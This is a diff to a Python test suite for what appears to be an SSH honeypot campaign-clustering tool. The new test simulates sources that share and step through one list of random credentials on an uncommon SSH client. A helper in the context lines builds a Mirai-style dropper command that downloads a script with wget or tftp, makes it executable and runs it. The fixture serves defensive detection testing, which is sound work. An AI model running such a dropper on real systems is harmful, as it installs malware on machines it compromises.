@@ -357,6 +357,30 @@ def test_two_mirai_builds_with_their_own_markers_are_never_one_campaign() -> Non
     assert _pair_recall(result, a) > 0.3 and _pair_recall(result, b) > 0.3
 
 
+def test_sources_walking_one_list_of_random_entries_on_an_uncommon_client_link() -> None:
+    """Each source tries the next few entries of one list of random-looking credentials (no base
+    words to chain) on one uncommon client, one session each over ten hours; the window's other
+    guessers on the commonest client, many trying only rare entries too, stay apart."""
+    rng = random.Random(36)
+    accounts = ["admin", "oracle", "git", "deploy"]  # each source tries its slice's accounts
+    entries = [(rng.choice(accounts), f"{rng.getrandbits(40):010x}") for _ in range(60)]
+    walkers = [random_ip(rng) for _ in range(10)]
+    sessions, cursor = [], 0
+    for k, ip in enumerate(walkers):
+        count = rng.randint(3, 5)
+        tried = entries[cursor : cursor + count]
+        cursor += count
+        sessions.append(session(ip, 3600.0 * k, logins=tried, client="SSH-2.0-Ninja_1.2", hassh="ab" * 16))
+    guessers = [random_ip(rng) for _ in range(40)]
+    for n, ip in enumerate(guessers):  # a quarter of them try only entries nobody else tries
+        tried = [("root", rng.choice(TOP_PASSWORDS)) for _ in range(rng.randint(1, 3)) if n % 4]
+        tried += [("root", f"{rng.getrandbits(32):08x}") for _ in range(rng.randint(1, 2))]
+        sessions.append(session(ip, rng.uniform(0, 36000), logins=tried))
+    result = analyze_sessions(sessions + background(rng, 150, span_s=36000), {})
+    assert _pair_recall(result, walkers) >= 0.9
+    assert _merged_with(result, set(guessers)) == 0
+
+
 def _dropper(host: str, script: str) -> str:
     return (
         f"cd /tmp; wget http://{host}/{script}; chmod 777 {script}; sh {script}; tftp {host} -c get t{script}"
